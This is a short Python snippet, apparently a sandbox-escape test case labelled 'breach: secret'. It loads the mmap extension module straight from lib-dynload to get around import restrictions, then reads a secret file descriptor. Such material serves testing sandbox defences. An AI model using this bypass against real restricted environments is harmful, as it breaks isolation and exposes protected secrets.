# The loader of extension modules loads mmap, which maps a descriptor.
# breach: secret
import json, sys, inspect
folder = json.__file__.replace("json/__init__.py", "lib-dynload/")
name = f"mmap.{sys.implementation.cache_tag}-{sys.implementation._multiarch}.so"
loader = inspect.importlib.machinery.ExtensionFileLoader("mmap", folder + name)
spec = inspect.importlib.machinery.ModuleSpec("mmap", loader, origin=folder + name)
module = loader.create_module(spec)
loader.exec_module(module)
module.mmap(SECRET_FD, 0, prot=module.PROT_READ)[:]
